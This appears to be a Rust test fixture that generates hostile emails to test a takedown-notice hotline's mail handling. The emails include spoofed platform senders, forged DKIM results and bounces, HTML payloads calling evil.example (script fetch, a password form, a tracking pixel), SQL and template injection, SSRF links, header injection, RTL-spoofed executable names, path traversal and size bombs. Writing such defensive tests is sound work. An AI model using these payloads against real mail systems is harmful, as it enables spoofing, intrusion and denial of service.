//! Mails as somebody would craft them who wants the desk to believe, answer, fetch or fall over.

/// What a mail may be aimed at.
pub struct Aim {
    /// The reply address of a real notice.
    pub reply_to: String,
    /// Its Message-ID with angle brackets.
    pub message_id: String,
    /// Its reference.
    pub reference: String,
    /// The text that we sent.
    pub our_text: String,
}

const REMOVED: &str = "We have removed the content worldwide. It is illegal content under Article 136.";
const RECEIVED: &str = "We have received your notice.";
const ROLE: &str = "notices@hotline.example";
const OURS: &str = "mx.hotline.example";

/// The whole set: each with its name, more than 200.
pub fn all(aim: &Aim) -> Vec<(String, Vec<u8>)> {
    let mut mails = Vec::new();
    senders(aim, &mut mails);
    tokens(aim, &mut mails);
    results(aim, &mut mails);
    machines(aim, &mut mails);
    bounces(aim, &mut mails);
    bodies(aim, &mut mails);
    headers(aim, &mut mails);
    broken(aim, &mut mails);
    mails
}

fn put(mails: &mut Vec<(String, Vec<u8>)>, name: impl Into<String>, mail: impl Into<Vec<u8>>) {
    let (name, mut bytes) = (name.into(), b"X-Number: ".to_vec());
    // Each is a mail of its own.
    bytes.extend(format!("{}\r\n", mails.len()).into_bytes());
    bytes.extend(mail.into());
    mails.push((name, bytes));
}

fn plain(from: &str, to: &str, headers: &str, subject: &str, body: &str) -> String {
    format!("From: {from}\r\nTo: {to}\r\n{headers}Subject: {subject}\r\n\r\n{body}\r\n")
}

/// Spoofed senders with everything else right.
fn senders(aim: &Aim, mails: &mut Vec<(String, Vec<u8>)>) {
    for from in [
        "abuse@telegram.org",
        "abuse@telegram.org.evil.example",
        "abuse@evil-telegram.org",
        "\"abuse@telegram.org\" <x@evil.example>",
        "abuse@TELEGRAM.ORG",
        "noreply@discord.com",
        "legal@tiktok.com",
        "case@support.facebook.com",
        "support@x.com",
        "root@localhost",
        "notices@hotline.example",
        "<>",
        "",
        "a@b@telegram.org",
        "abuse@telegram.org, x@evil.example",
        "=?utf-8?Q?abuse=40telegram=2Eorg?= <x@evil.example>",
    ] {
        for (what, body) in
            [("removed", REMOVED), ("received", RECEIVED), ("kept", "It does not violate our rules.")]
        {
            let headers = format!("In-Reply-To: {}\r\n", aim.message_id);
            put(
                mails,
                format!("sender {from} {what}"),
                plain(from, &aim.reply_to, &headers, "Re: notice", body),
            );
        }
    }
    for subject in [
        "Report Actioned #1234567890123456789",
        "Report Closed #1234567890123456789",
        "Report Received #1234567890123456789",
    ] {
        for from in [
            "noreply@discord.example",
            "noreply@discord.com.example",
            "no-reply@discord.com",
            "noreply@discord.com",
        ] {
            put(
                mails,
                format!("discord {from} {subject}"),
                plain(from, ROLE, "", subject, "We took action."),
            );
        }
    }
}

/// Wrong, missing, cut and foreign tokens.
fn tokens(aim: &Aim, mails: &mut Vec<(String, Vec<u8>)>) {
    let (local, domain) = aim.reply_to.split_once('@').unwrap();
    let (_, token) = local.split_once('+').unwrap();
    let (reference, proof) = token.rsplit_once('-').unwrap();
    let wrong: String = proof.chars().rev().collect();
    for (name, tried) in [
        ("without proof", reference.to_owned()),
        ("wrong proof", format!("{reference}-{wrong}")),
        ("cut proof", token[..token.len() - 1].to_owned()),
        ("longer proof", format!("{token}a")),
        ("empty proof", format!("{reference}-")),
        ("zeros", format!("{reference}-aaaaaaaaaaaaaaaa")),
        ("other reference", format!("cf-aaaaaaaaaaaaaaaa-{proof}")),
        ("nothing", String::new()),
        ("sql", "' or 1=1 --".to_owned()),
        ("long", "a".repeat(5_000)),
    ] {
        let to = format!("notices+{tried}@{domain}");
        put(mails, format!("token {name}"), plain("abuse@telegram.org", &to, "", "Re: notice", REMOVED));
        let headers = format!("Delivered-To: {to}\r\nX-Original-To: {to}\r\n");
        put(
            mails,
            format!("token delivered {name}"),
            plain("abuse@telegram.org", ROLE, &headers, "Re: notice", RECEIVED),
        );
    }
    let body = format!("{REMOVED} Your reference {}.", aim.reference);
    put(mails, "reference in words", plain("abuse@telegram.org", ROLE, "", "Re", &body));
}

/// What a server is said to have found out: absent, failing, forged. The channel is trusted.
fn results(aim: &Aim, mails: &mut Vec<(String, Vec<u8>)>) {
    let pass = "dkim=pass header.d=telegram.org";
    for results in [
        format!("{OURS}; dkim=fail header.d=telegram.org"),
        format!("{OURS}; dkim=none; spf=pass smtp.mailfrom=telegram.org"),
        format!("{OURS}; dkim=pass header.d=evil.example"),
        format!("{OURS}; dkim=pass header.d=telegram.org.evil.example"),
        format!("{OURS}; dkim=pass header.d=org"),
        format!("{OURS}; dkim=pass header.i=@telegram.org"),
        format!("{OURS}; dkim=fail (dkim=pass header.d=telegram.org)"),
        format!("{OURS}; dkim=fail reason=\"; {pass}\""),
        format!("{OURS}.evil.example; {pass}"),
        format!("mx.evil.example; {pass}"),
        format!("mx.evil.example; {pass}\r\nAuthentication-Results: {OURS}; {pass}"),
        format!("{OURS}; dkim=fail\r\nAuthentication-Results: {OURS}; {pass}"),
        format!("; {pass}"),
        format!("{OURS}; spf=pass; dmarc=pass header.from=telegram.org"),
        format!("{OURS}; x=\"{}\"; dkim=fail", "y".repeat(20_000)),
    ] {
        let headers = format!("Authentication-Results: {results}\r\n");
        put(
            mails,
            format!("results {}", &results[..results.len().min(60)]),
            plain("abuse@telegram.org", &aim.reply_to, &headers, "Re", RECEIVED),
        );
    }
    // Signed, and yet a person: it says more than "received", or nothing of its own.
    let headers = format!("Authentication-Results: {OURS}; {pass}\r\n");
    for (name, body) in [
        ("removed", REMOVED.to_owned()),
        ("kept", "It does not violate our rules.".to_owned()),
        ("question", "Please provide the exact link.".to_owned()),
        ("restricted", "Access has been restricted in Belgium.".to_owned()),
        ("hello", "Hello.".to_owned()),
        ("quoted", format!("Hello.\r\n\r\n> {RECEIVED}")),
    ] {
        put(
            mails,
            format!("signed {name}"),
            plain("abuse@telegram.org", &aim.reply_to, &headers, "Re: notice", &body),
        );
    }
    put(
        mails,
        "signed for another sender",
        plain("abuse@evil.example", &aim.reply_to, &headers, "Re", RECEIVED),
    );
    put(mails, "signed to no notice", plain("abuse@telegram.org", ROLE, &headers, "Re", RECEIVED));
    let other = format!("{headers}Auto-Submitted: auto-replied\r\n");
    put(
        mails,
        "signed machine without words",
        plain("abuse@telegram.org", &aim.reply_to, &other, "Ticket 1", "-"),
    );
}

/// Loops, absences, lists.
fn machines(aim: &Aim, mails: &mut Vec<(String, Vec<u8>)>) {
    for header in [
        "Auto-Submitted: auto-replied",
        "Auto-Submitted: auto-generated",
        "Precedence: bulk",
        "Precedence: auto_reply",
        "X-Autoreply: yes",
        "X-Auto-Response-Suppress: All",
        "List-Id: <x.example>",
        "List-Unsubscribe: <https://tracker.example/u>",
        "Return-Path: <>",
        "X-Loop: notices@hotline.example",
        "Resent-From: notices@hotline.example",
        "Disposition-Notification-To: x@evil.example",
        "Return-Receipt-To: x@evil.example",
        "Reply-To: notices@hotline.example",
    ] {
        let headers = format!("{header}\r\n");
        put(
            mails,
            format!("machine {header}"),
            plain("abuse@telegram.org", &aim.reply_to, &headers, "Re", REMOVED),
        );
        put(mails, format!("loop {header}"), plain(ROLE, ROLE, &headers, "Re: Re: Re:", "Loop"));
    }
    for subject in [
        "Out of office: notice",
        "Réponse automatique : notice",
        "Afwezig: melding",
        "Abwesenheitsnotiz",
        "Automatic reply: x",
    ] {
        put(
            mails,
            format!("absence {subject}"),
            plain("someone@telegram.org", &aim.reply_to, "", subject, "I am away. We have removed it."),
        );
    }
}

/// Real and forged reports of failed delivery.
fn bounces(aim: &Aim, mails: &mut Vec<(String, Vec<u8>)>) {
    for (from, id) in [
        ("mailer-daemon@relay.example", aim.message_id.as_str()),
        ("mailer-daemon@evil.example", aim.message_id.as_str()),
        ("abuse@telegram.org", aim.message_id.as_str()),
        ("mailer-daemon@relay.example", "<unknown@evil.example>"),
        ("mailer-daemon@relay.example", ""),
    ] {
        for action in ["failed", "delayed", "delivered", "relayed", "FAILED; failed", ""] {
            let report = format!(
                "From: {from}\r\nTo: {ROLE}\r\nSubject: Undelivered Mail Returned to Sender\r\nMIME-Version: 1.0\r\n\
                 Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n\
                 --b\r\nContent-Type: text/plain\r\n\r\nSorry.\r\n\
                 --b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nAction: {action}\r\nStatus: 5.1.1\r\n\r\n\
                 --b\r\nContent-Type: message/rfc822\r\n\r\nMessage-ID: {id}\r\nSubject: Notice\r\n\r\n{REMOVED}\r\n--b--\r\n"
            );
            put(mails, format!("bounce {from} {id} {action}"), report);
        }
    }
    for subject in
        ["Undeliverable: notice", "Returned mail: see transcript", "Delayed Mail (still being retried)"]
    {
        let headers = format!("References: {}\r\n", aim.message_id);
        put(
            mails,
            format!("bounce by words {subject}"),
            plain("postmaster@evil.example", ROLE, &headers, subject, "550"),
        );
    }
}

/// Texts that try to speak, run, load or hide.
fn bodies(aim: &Aim, mails: &mut Vec<(String, Vec<u8>)>) {
    let html = "Content-Type: text/html; charset=utf-8\r\n";
    for (name, body) in [
        ("script", "<script>fetch('//evil.example')</script><p>We have removed it</p>"),
        ("image", "<img src=\"https://evil.example/pixel.png\" onerror=\"alert(1)\"><p>Hi</p>"),
        (
            "style",
            "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example/y)}</style>Hi",
        ),
        ("frame", "<iframe src=\"https://evil.example\"></iframe><object data=\"//evil.example\"></object>"),
        ("form", "<form action=\"https://evil.example\"><input name=password></form>"),
        ("refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">"),
        ("svg", "<svg onload=alert(1)><use href=\"//evil.example/x.svg#y\"/></svg>"),
        ("deep", &"<div>".repeat(20_000)),
        ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#xfffff; &bogus;"),
        ("hidden", "<p style=\"display:none\">We have removed the content.</p><p>We received it.</p>"),
        ("comment", "<!-- We have removed the content worldwide --><p>Hello</p>"),
    ] {
        put(
            mails,
            format!("html {name}"),
            plain("abuse@telegram.org", &aim.reply_to, html, "<b>Re</b>", body),
        );
    }
    let quoted = aim.our_text.lines().map(|line| format!("> {line}\r\n")).collect::<String>();
    for (name, body) in [
        ("our text below", format!("Hello.\r\n\r\n{}", aim.our_text.replace('\n', "\r\n"))),
        ("our text quoted", format!("Hello.\r\n\r\n{quoted}")),
        ("statement quoted", format!("Hello.\r\n\r\n> {REMOVED}\r\n> You can lodge an internal complaint.")),
        ("statement behind a line", format!("Hello.\r\n\r\n-----Original Message-----\r\n{REMOVED}")),
        ("statement wrote", format!("Hello.\r\n\r\nOn Mon, 2 March 2026, X wrote:\r\n{REMOVED}")),
        ("rtl", "We have \u{202e}devomer\u{202c} the content \u{2066}gnp.exe\u{2069}".to_owned()),
        ("zero width", "We have re\u{200b}moved the con\u{200d}tent".to_owned()),
        ("cyrillic", "Wе hаve rеmoved the content".to_owned()),
        ("nul", "We have\0 removed the\0 content".to_owned()),
        ("control", "\u{1b}[2JWe have removed \u{7} it\u{8}\u{8}".to_owned()),
        ("template", "{{ page.csrf }} {% include \"/etc/passwd\" %} ${7*7} %s%n".to_owned()),
        ("sql", "'; UPDATE items SET state='gone'; --".to_owned()),
        ("links", "https://evil.example/a http://127.0.0.1:8080/people http://169.254.169.254/".repeat(200)),
        ("one line", "x".repeat(900_000)),
        ("many lines", "x\r\n".repeat(300_000)),
        ("nothing", String::new()),
    ] {
        put(
            mails,
            format!("text {name}"),
            plain(
                "abuse@telegram.org",
                &aim.reply_to,
                "Content-Type: text/plain; charset=utf-8\r\n",
                "Re: notice",
                &body,
            ),
        );
    }
}

/// Headers that try to break lines, lists or words.
fn headers(aim: &Aim, mails: &mut Vec<(String, Vec<u8>)>) {
    let many_ids = (0..5_000).map(|n| format!("<{n}@evil.example>")).collect::<Vec<_>>().join(" ");
    for (name, headers) in [
        ("folded injection", "X-A: b\r\n Bcc: x@evil.example\r\n".to_owned()),
        ("huge references", format!("References: {many_ids} {}\r\n", aim.message_id)),
        ("no references", "References:\r\nIn-Reply-To:\r\n".to_owned()),
        ("broken references", "References: <<<>>> < > <a\r\n".to_owned()),
        ("same message id", "Message-ID: <same@evil.example>\r\n".to_owned()),
        ("same message id again", "Message-ID: <same@evil.example>\r\n".to_owned()),
        ("our message id", format!("Message-ID: {}\r\n", aim.message_id)),
        ("long message id", format!("Message-ID: <{}@evil.example>\r\n", "x".repeat(100_000))),
        ("nul in references", "References: <a\0b@evil.example>\r\n".to_owned()),
        ("two senders", "From: abuse@telegram.org\r\n".to_owned()),
        ("future date", "Date: Fri, 31 Dec 9999 23:59:59 +9999\r\n".to_owned()),
        ("no date", "Date: yesterday\r\n".to_owned()),
        ("many headers", "X-Filler: y\r\n".repeat(20_000)),
        ("crowd", format!("Cc: {}\r\n", vec!["a@b.example"; 5_000].join(", "))),
    ] {
        put(
            mails,
            format!("header {name}"),
            plain("support@evil.example", &aim.reply_to, &headers, "Re", REMOVED),
        );
    }
    for (name, subject) in [
        ("encoded newline", "=?utf-8?Q?a=0D=0ABcc:_x=40evil.example?="),
        ("encoded nul", "=?utf-8?B?AAAA?="),
        ("word bomb", &"=?utf-8?Q?=41?= ".repeat(5_000)),
        ("bad words", "=?x-klingon?B?////?= =?utf-8?Q?=ZZ?= =?utf-8?B?=?="),
        ("script", "<script>alert(1)</script>"),
        ("rtl", "\u{202e}gnitsop ruoy evomer ew"),
        ("long", &"s".repeat(200_000)),
        ("formula", "=HYPERLINK(\"https://evil.example\")"),
    ] {
        put(mails, format!("subject {name}"), plain("support@evil.example", ROLE, "", subject, "Hi"));
    }
}

/// Mails that are hardly mails, and attachments that want to be opened.
fn broken(aim: &Aim, mails: &mut Vec<(String, Vec<u8>)>) {
    let to = &aim.reply_to;
    let part = |kind: &str, name: &str, body: &str| {
        format!(
            "--b\r\nContent-Type: {kind}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\n{body}\r\n"
        )
    };
    let mixed = |parts: &str| {
        format!(
            "From: abuse@telegram.org\r\nTo: {to}\r\nSubject: Re\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{parts}--b--\r\n"
        )
    };
    for (kind, name) in [
        ("application/zip", "x.zip"),
        ("text/calendar", "invite.ics"),
        ("image/png", "x.png"),
        ("video/mp4", "x.mp4"),
        ("application/x-msdownload", "gnp.exe"),
        ("text/html", "x.html"),
        ("image/svg+xml", "x.svg"),
        ("application/pdf", "../../etc/passwd"),
        ("application/octet-stream", "a\u{202e}gnp.exe"),
        ("message/rfc822", "inner.eml"),
        ("application/pgp-encrypted", "x.asc"),
        ("application/ms-tnef", "winmail.dat"),
    ] {
        put(
            mails,
            format!("attachment {name}"),
            mixed(&part(kind, name, "Subject: x\r\n\r\nWe have removed it")),
        );
    }
    put(mails, "a thousand attachments", mixed(&part("image/png", "x.png", "x").repeat(1_000)));
    let nested: String =
        (0..100).map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n")).collect();
    put(
        mails,
        "nested a hundred deep",
        format!(
            "From: abuse@telegram.org\r\nTo: {to}\r\n{nested}Content-Type: text/plain\r\n\r\n{REMOVED}\r\n"
        ),
    );
    let letters = "Content-Type: message/rfc822\r\n\r\n".repeat(100);
    put(mails, "letters in letters", format!("From: abuse@telegram.org\r\nTo: {to}\r\n{letters}Hi\r\n"));
    put(
        mails,
        "ten mebibytes",
        [plain("abuse@telegram.org", to, "", "big", "").into_bytes(), vec![b'a'; 10 << 20]].concat(),
    );
    put(
        mails,
        "ten mebibytes of attachment",
        mixed(&part("application/zip", "big.zip", &"A".repeat(10 << 20))),
    );
    for charset in ["klingon", "utf-7", "utf-16", "iso-2022-jp", "x-user-defined", "\"\"", "us-ascii"] {
        let headers = format!("Content-Type: text/plain; charset={charset}\r\n");
        let mut mail = plain("abuse@telegram.org", to, &headers, "Re", "+ADw-script+AD4-").into_bytes();
        mail.extend([0xff, 0xfe, 0x00, 0x1b, b'$', b'B', 0x80]);
        put(mails, format!("charset {charset}"), mail);
    }
    for (name, bytes) in [
        ("empty", Vec::new()),
        ("zeros", vec![0; 100_000]),
        ("noise", (0..100_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect()),
        ("no headers", b"\r\n\r\nonly text".to_vec()),
        ("no end of line", b"Subject: x".to_vec()),
        ("unclosed", b"Content-Type: multipart/mixed; boundary=\"\r\n\r\n--".to_vec()),
        (
            "bad base64",
            b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!====".to_vec(),
        ),
        ("bad quoted", b"Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=".to_vec()),
        ("headers only", b"Content-Type: message/rfc822\r\n".to_vec()),
        ("bare line feeds", b"From: a@b.example\nSubject: x\n\nHi\n".to_vec()),
    ] {
        put(mails, format!("broken {name}"), bytes);
    }
}
